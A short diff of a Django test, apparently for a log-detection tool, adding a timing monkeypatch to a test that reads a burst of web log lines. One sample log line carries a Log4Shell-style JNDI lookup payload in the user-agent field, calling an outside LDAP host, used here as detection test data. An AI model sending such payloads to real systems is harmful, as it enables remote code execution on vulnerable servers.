@@ -41,7 +41,8 @@ def test_every_app_with_a_clock_is_on_the_list():
 
 
 @pytest.mark.django_db
-def test_a_burst_of_detections_is_read_in_one_turn(data):
+def test_a_burst_of_detections_is_read_in_one_turn(data, monkeypatch):
+    monkeypatch.setattr(loop, "CATCHING_UP_SECONDS", 60.0)  # what a busy machine reads in a second is not the claim
     source = LogSourceFactory(kind="web")
     lines = [
         b'192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://192.0.2.9/a}"'
